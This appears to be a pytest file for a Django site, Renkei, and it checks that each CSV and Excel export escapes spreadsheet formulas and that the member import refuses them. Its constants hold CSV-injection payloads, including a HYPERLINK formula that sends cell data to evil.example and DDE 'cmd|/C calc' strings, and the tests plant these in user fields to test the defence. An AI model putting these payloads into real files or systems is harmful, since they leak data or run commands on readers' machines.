"""Formula injection: no CSV or Excel export of Renkei holds a cell a spreadsheet would run.

Anyone can put text into an export: an anonymous inquiry's organisation, a registrant's name,
a survey answer, a member's contact, a partnership's description. Text starting with = + - @
(or a tab or carriage return) reaches the reader's spreadsheet behind a single quote, and Excel
cells are text, never formulas. The member import refuses such cells.
"""

import csv
import datetime
import io
from dataclasses import dataclass

import openpyxl
import pytest
import tablib
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from django.utils import timezone, translation

from renkei.events.models import Registration, RegistrationQuestion, Survey, SurveyQuestion
from renkei.events.services import survey_response_create
from renkei.events.tests.factories import make_event
from renkei.inquiries.services import inquiry_create, privacy_policy_publish
from renkei.lib.exports import dataset_response, is_formula, safe_cell, unquote_cell
from renkei.matching import services as matching
from renkei.networks.imports import read_rows, validate_rows
from renkei.networks.models import Membership, Tier
from renkei.networks.services import ImportRejected, members_import
from renkei.organisations.models import Contact, Organisation
from renkei.partnerships.services import Parties, partnership_create
from renkei.registry.models import OverseasGovernment
from renkei.testing import OrganisationFactory, UserFactory, build_world, login_with_second_factor, staff

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
CALC = "=cmd|' /C calc'!A0"
PLUS = "+1+cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
TAB = "\t=1+1"


@pytest.fixture
def world(db):
    with translation.override("ja"):
        world = build_world()
    world.agency_org = OrganisationFactory(kind=Organisation.Kind.NATIONAL_AGENCY, name="経済産業省", name_en="METI")
    world.erin = UserFactory(email="erin@example.jp", name="経産 エリン")
    staff(world.erin, world.agency_org)
    return world


# --- Each export, with user text planted where it shows -----------------------------------------------


@dataclass
class Export:
    persona: str  # "secretariat" (signed in with a second factor), a world user's name, or "anonymous"
    csv_url: str
    xlsx_url: str
    planted: list[str]


def _inbox(world) -> Export:
    privacy_policy_publish(network=world.network, body_ja="回答にのみ利用します。", body_en="To answer.", author=None)
    data = {
        "kind": "media",
        "name": CALC,
        "organisation": HYPERLINK,
        "email": "evil@example.jp",
        "phone": PLUS,
        "message": MINUS,
        "outlet": AT,
        "deadline": None,
        "wanted": TAB,
    }
    inquiry_create(network=world.network, data=data, language="ja", client_ip=None)
    url = reverse("inquiries:inbox_export", kwargs={"slug": world.network.slug, "fmt": "csv"})
    return Export("secretariat", url, url.replace(".csv", ".xlsx"), [CALC, HYPERLINK, PLUS, MINUS, AT])


def _registrants(world) -> Export:
    start = timezone.now() + datetime.timedelta(days=7)
    event = make_event(world.network, starts_at=start, ends_at=start + datetime.timedelta(hours=2))
    question = RegistrationQuestion.objects.create(event=event, kind="text", label=MINUS)
    Registration.objects.create(
        event=event,
        name=CALC,
        name_kana=PLUS,
        email="evil@example.jp",
        organisation_name=HYPERLINK,
        department=AT,
        answers={str(question.pk): HYPERLINK},
    )
    return Export(
        "secretariat",
        reverse("events:manage_registrants_csv", args=[event.pk]),
        reverse("events:manage_registrants_xlsx", args=[event.pk]),
        [CALC, PLUS, HYPERLINK, AT, MINUS],
    )


def _survey(world) -> Export:
    start = timezone.now() - datetime.timedelta(days=1)
    event = make_event(world.network, starts_at=start, ends_at=start + datetime.timedelta(hours=2))
    survey = Survey.objects.create(event=event, title="アンケート", title_ja="アンケート", anonymous=False)
    text = SurveyQuestion.objects.create(survey=survey, order=1, kind="text", label=AT)
    choice = SurveyQuestion.objects.create(survey=survey, order=2, kind="single", label="形式", choices=f"{PLUS}\n会場")
    world.alice.name = CALC
    world.alice.save(update_fields=["name"])
    registration = Registration.objects.create(
        event=event,
        user=world.alice,
        name=CALC,
        email=world.alice.email,
        status="confirmed",
        checked_in_at=timezone.now(),
    )
    survey_response_create(survey=survey, registration=registration, answers={text.pk: HYPERLINK, choice.pk: [PLUS]})
    return Export(
        "secretariat",
        reverse("events:manage_survey_csv", args=[event.pk]),
        reverse("events:manage_survey_xlsx", args=[event.pk]),
        [AT, CALC, HYPERLINK, PLUS],
    )


def _members(world) -> Export:
    # A member's staff keep their own contact: anything they type reaches the secretariat's file.
    Contact.objects.filter(pk=world.alice_contact.pk).update(person_name=CALC, department=HYPERLINK, phone=PLUS)
    company = OrganisationFactory(kind=Organisation.Kind.COMPANY, name=AT, name_en=AT)
    Membership.objects.create(network=world.network, organisation=company, tier=world.general)
    return Export(
        "secretariat",
        reverse("networks:manage_export_csv", args=[world.network.slug]),
        reverse("networks:manage_export_xlsx", args=[world.network.slug]),
        [CALC, HYPERLINK, PLUS, AT],
    )


def _relay(world) -> Export:
    Contact.objects.filter(pk=world.alice_contact.pk).update(person_name=CALC, department=HYPERLINK, phone=MINUS)
    programme = matching.programme_create(
        organisation=world.agency_org,
        author=world.erin,
        network=world.network,
        agency="経済産業省",
        title="工芸品の磨き上げ事業",
        description="実証事業。",
        target_regions=["kinki"],
        visibility="members",
        announce=False,
    )
    url = reverse("matching:programme_relay", args=[programme.pk])
    return Export("secretariat", f"{url}?format=csv", f"{url}?format=xlsx", [CALC, HYPERLINK, MINUS])


def _partnerships(world) -> Export:
    overseas = OverseasGovernment.objects.create(name_en=AT, name=PLUS, country="FR", level="city")
    partnership_create(
        user=None,
        parties=Parties(local_governments=[world.charlie_org.local_government], overseas_governments=[overseas]),
        kind="sister_city",
        established_on=datetime.date(1994, 1, 1),
        established_precision="year",
        status="active",
        description_ja=HYPERLINK,
        description_en=MINUS,
        sources=CALC,
    )
    url = reverse("partnerships:export")
    return Export("anonymous", f"{url}?format=csv", f"{url}?format=xlsx", [AT, PLUS, HYPERLINK, MINUS, CALC])


def _dashboard(world) -> Export:
    # Tier names and programme titles are typed by people; the dashboard exports them as labels.
    Tier.objects.filter(pk=world.full.pk).update(name=CALC, name_ja=CALC, name_en=CALC)
    matching.programme_create(
        organisation=world.agency_org,
        author=world.erin,
        network=world.network,
        agency="経済産業省",
        title=HYPERLINK,
        description="実証事業。",
        target_regions=["kinki"],
        visibility="members",
        announce=False,
    )
    return Export(
        "secretariat",
        reverse("networks:manage_dashboard_csv", args=[world.network.slug]),
        reverse("networks:manage_dashboard_xlsx", args=[world.network.slug]),
        [CALC],
    )


EXPORTS = {
    "networks:manage_dashboard_csv": _dashboard,
    "inquiries:inbox_export": _inbox,
    "events:manage_registrants_csv": _registrants,
    "events:manage_survey_csv": _survey,
    "networks:manage_export_csv": _members,
    "matching:programme_relay": _relay,
    "partnerships:export": _partnerships,
}


def _routes(resolver: URLResolver, namespace: str = "", prefix: str = ""):
    for pattern in resolver.url_patterns:
        if isinstance(pattern, URLResolver):
            inner = f"{namespace}{pattern.namespace}:" if pattern.namespace else namespace
            yield from _routes(pattern, inner, prefix + str(pattern.pattern))
        elif isinstance(pattern, URLPattern):
            yield f"{namespace}{pattern.name}", prefix + str(pattern.pattern)


def test_every_export_of_the_site_is_in_this_file():
    # A new export URL (…export…, .csv, .xlsx) must be added to EXPORTS, so it is tested here.
    found = {
        name
        for name, route in _routes(get_resolver())
        if ("export" in route or ".csv" in route or ".xlsx" in route) and "admin" not in name
    }
    found -= {"events:manage_registrants_xlsx", "events:manage_survey_xlsx", "networks:manage_export_xlsx"}
    found -= {"networks:manage_dashboard_xlsx"}
    found -= {"inquiries:platform_inbox_export"}  # the same view as a network's inbox
    assert found | {"matching:programme_relay"} == set(EXPORTS)


def _client_for(client, world, persona: str):
    if persona == "secretariat":
        login_with_second_factor(client, world.secretariat)
    elif persona != "anonymous":
        client.force_login(getattr(world, persona))
    return client


@pytest.mark.parametrize("language", ["ja", "en"])
@pytest.mark.parametrize("name", list(EXPORTS))
def test_no_export_holds_a_formula(client, world, name, language):
    export = EXPORTS[name](world)
    client = _client_for(client, world, export.persona)
    prefix = "/en" if language == "en" else ""

    response = client.get(prefix + export.xlsx_url)
    assert response.status_code == 200, response
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert not [cell.value for cell in cells if is_formula(cell.value)]
    texts = {cell.value for cell in cells}
    for planted in export.planted:
        assert "'" + planted in texts, planted

    response = client.get(prefix + export.csv_url)
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    values = {value for row in rows for value in row}
    assert not [value for value in values if is_formula(value)]
    for planted in export.planted:
        assert "'" + planted in values, planted


# --- The one helper ------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+81 3 1234 5678", "'+81 3 1234 5678"),
        ("-", "'-"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("＝１＋１", "'＝１＋１"),
        ("松原市", "松原市"),
        ("a=b", "a=b"),
        ("", ""),
        (-5, -5),
        (1.5, 1.5),
        (datetime.date(2025, 4, 1), datetime.date(2025, 4, 1)),
        (None, None),
    ],
)
def test_safe_cell_quotes_only_formula_like_text(value, written):
    assert safe_cell(value) == written
    assert unquote_cell(safe_cell(value)) == value


def test_an_excel_export_keeps_numbers_and_dates_and_writes_text_as_text():
    dataset = tablib.Dataset(headers=["=title", "n", "day", "text"], title="名簿")
    dataset.append([HYPERLINK, -5, datetime.date(2025, 4, 1), "#N/A"])
    response = dataset_response(dataset, fmt="xlsx", filename="x.xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    header, row = list(sheet.iter_rows())
    assert [(c.value, c.data_type) for c in header][0] == ("'=title", "s")
    assert [c.data_type for c in row] == ["s", "n", "d", "s"]  # "#N/A" is text, not Excel's error
    assert (row[0].value, row[1].value, row[2].value.date()) == ("'" + HYPERLINK, -5, datetime.date(2025, 4, 1))

    text = dataset_response(dataset, fmt="csv", filename="x.csv").content.decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(text)))[1] == ["'" + HYPERLINK, "-5", "2025-04-01", "#N/A"]


# --- The member import ----------------------------------------------------------------------------------


def _upload(client, world, name: str, content: bytes):
    login_with_second_factor(client, world.secretariat)
    url = reverse("networks:manage_import", args=[world.network.slug])
    return client.post(url, {"file": SimpleUploadedFile(name, content)})


def test_the_member_import_refuses_a_formula_and_changes_nothing(client, world):
    before = sorted(Contact.objects.values_list("organisation_id", "person_name", "phone"))
    text = (
        "全国地方公共団体コード,会員区分,担当者名,メールアドレス,電話番号\n"
        "272175,正会員,松原 一郎,ichiro@matsubara.example.jp,06-0000-0000\n"
        f'162108,一般会員,"{CALC}",jiro@nanto.example.jp,06-0000-0000\n'
    )
    response = _upload(client, world, "members.csv", text.encode())
    page = response.content.decode()
    assert response.status_code == 400
    assert '<td class="num">3</td>' in page and '<td class="num">2</td>' not in page
    assert "「担当者名」の列が「=」で始まっています" in page
    assert sorted(Contact.objects.values_list("organisation_id", "person_name", "phone")) == before


def test_the_member_import_names_the_column_in_english_too(world):
    rows = read_rows("members.csv", b"code,tier,contact_name,contact_email\n272175,Full member,@x,a@example.jp\n")
    with translation.override("en"):
        _valid, errors = validate_rows(world.network, rows)
    assert [(e.row, e.message) for e in errors] == [
        (
            2,
            "The 「Contact name」 column starts with 「@」, which a spreadsheet would run as a formula; "
            "remove the sign, or put a single quote (') before it to keep it as text.",
        )
    ]


def test_the_member_import_refuses_an_excel_formula(world):
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.append(["local_government_code", "tier", "contact_name", "contact_email"])
    sheet.append(["272175", "正会員", "=1+1", "ichiro@matsubara.example.jp"])
    assert sheet["C2"].data_type == "f"
    stream = io.BytesIO()
    workbook.save(stream)
    with pytest.raises(ImportRejected) as rejected:
        members_import(network=world.network, rows=read_rows("members.xlsx", stream.getvalue()))
    assert [error.row for error in rejected.value.errors] == [2]


def test_a_quoted_cell_from_an_export_imports_as_the_text_it_shows(client, world):
    Contact.objects.filter(pk=world.alice_contact.pk).update(phone="+81 72-334-1550")
    export = _client_for(client, world, "secretariat").get(
        reverse("networks:manage_export_csv", args=[world.network.slug])
    )
    assert "'+81 72-334-1550" in export.content.decode("utf-8-sig")
    response = _upload(client, world, "members.csv", export.content)
    assert response.status_code == 302
    assert Contact.objects.get(pk=world.alice_contact.pk).phone == "+81 72-334-1550"
